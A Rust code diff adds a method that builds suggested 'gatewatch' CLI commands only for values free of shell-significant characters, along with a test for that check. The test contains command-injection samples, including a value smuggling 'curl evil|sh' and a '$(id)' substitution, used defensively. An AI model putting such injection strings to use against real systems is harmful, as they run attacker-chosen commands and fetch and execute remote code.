@@ -162,6 +162,20 @@ impl EntityPage {
         }
     }
 
+    /// Returns the commands that ask about it; none of a value that a shell or a question would take for more
+    /// than a value, for it may be an attacker's.
+    fn commands(&self) -> Vec<String> {
+        let plain = |letter: char| letter.is_ascii_alphanumeric() || "._:/@+-".contains(letter);
+        if !self.value.chars().all(plain) || self.value.starts_with('-') {
+            return Vec::new();
+        }
+        let mut commands = vec![format!("gatewatch alerts list 'entity:{} state:all'", self.path)];
+        if self.kind == EntityKind::Key.name() {
+            commands.push(format!("gatewatch keys readiness {}", self.value));
+        }
+        commands
+    }
+
     /// Returns the query string of its page's form for a silence.
     fn silence(&self) -> String {
         format!("entity={}", utf8_percent_encode(&self.path, NON_ALPHANUMERIC))
@@ -234,5 +248,15 @@ mod tests {
         let html = shown(&Entity::new(EntityKind::Origin, "https://<script>.example"), &Known::default());
         assert!(html.contains("No alert is about it") && html.contains("q=https%3A%2F%2F%3Cscript"), "{html}");
         assert!(!html.contains("<script>.example"), "{html}");
+    }
+
+    #[test]
+    fn no_command_is_shown_that_a_value_could_end() {
+        let known = Known::default();
+        for value in ["https://x';curl evil|sh;'", "$(id)", "a b", "--help"] {
+            let html = shown(&Entity::new(EntityKind::Origin, value), &known);
+            assert!(!html.contains("gatewatch alerts list"), "{html}");
+        }
+        assert!(shown(&Entity::new(EntityKind::Ip, "2001:db8::1"), &known).contains("entity:ip/2001:db8::1"));
     }
 }
